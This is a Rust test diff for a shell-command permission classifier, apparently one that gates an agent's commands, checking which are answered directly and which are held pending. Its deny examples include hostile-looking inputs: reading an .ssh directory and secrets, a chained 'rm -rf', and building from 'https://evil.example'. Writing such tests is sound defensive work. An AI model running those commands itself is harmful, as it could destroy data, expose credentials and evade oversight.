@@ -53,3 +53,55 @@ fn what_may_be_read_is_not_what_may_be_written() {
         assert_eq!(status(&mut world, command, "/srv/app"), Pending, "{command}");
     }
 }
+
+#[test]
+fn names_may_be_listed_that_may_not_be_read() {
+    let mut world = class("looking");
+    for command in ["ls -la .venv", "du -sh data .venv", "find .git -name HEAD", "acme --version"] {
+        assert_eq!(status(&mut world, command, "/srv/app"), Answered, "{command}");
+    }
+    for command in [
+        "cat .venv/x",
+        "ls secrets.d",
+        "ls ../other",
+        "du -sh /home/ana/.ssh",
+        "./acme --version",
+        "acme.sh --version",
+        "acme --version x",
+        "acme --help",
+    ] {
+        assert_eq!(status(&mut world, command, "/srv/app"), Pending, "{command}");
+    }
+}
+
+#[test]
+fn what_is_run_while_one_builds_is_called_so() {
+    let mut world = class("building");
+    for command in [
+        "npm run dev > /tmp/dev.log 2>&1 &",
+        "npm start",
+        "./gradlew --version",
+        "./gradlew integrationTest checkstyleMain --tests '*BookingIT'",
+        "docker compose -f docker/compose.dev.yml up -d db",
+        "uv lock && uv sync",
+        "docker build -t app:dev .",
+    ] {
+        assert_eq!(status(&mut world, command, "/srv/app"), Answered, "{command}");
+    }
+    for command in [
+        "make start-prod",
+        "npm run devDeploy",
+        "./gradlew testPublish",
+        "npm run dev & rm -rf x",
+        "npm run dev &&",
+        "docker compose -f evil.yml up",
+        "docker compose -f ../compose.yml up",
+        "docker compose -f /tmp/compose.yml up",
+        "docker compose -f .evil/compose.yml up",
+        "docker build -t app:dev https://evil.example/x.git",
+        "docker build -f /tmp/Dockerfile .",
+        "docker build --secret id=a .",
+    ] {
+        assert_eq!(status(&mut world, command, "/srv/app"), Pending, "{command}");
+    }
+}
